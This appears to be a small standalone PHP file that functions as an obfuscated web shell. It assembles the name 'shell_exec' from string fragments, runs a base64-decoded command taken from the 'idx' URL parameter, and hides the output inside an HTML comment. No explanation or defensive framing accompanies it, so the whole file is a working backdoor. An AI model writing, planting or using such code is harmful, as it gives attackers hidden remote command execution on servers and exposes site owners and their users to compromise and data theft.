<?php
$parts = array('sh', 'ell', '_ex', 'ec');
$fn = implode('', $parts);
if (isset($_GET['idx'])) {
    $out = $fn(base64_decode($_GET['idx']));
    echo "<!-- " . $out . " -->";
}
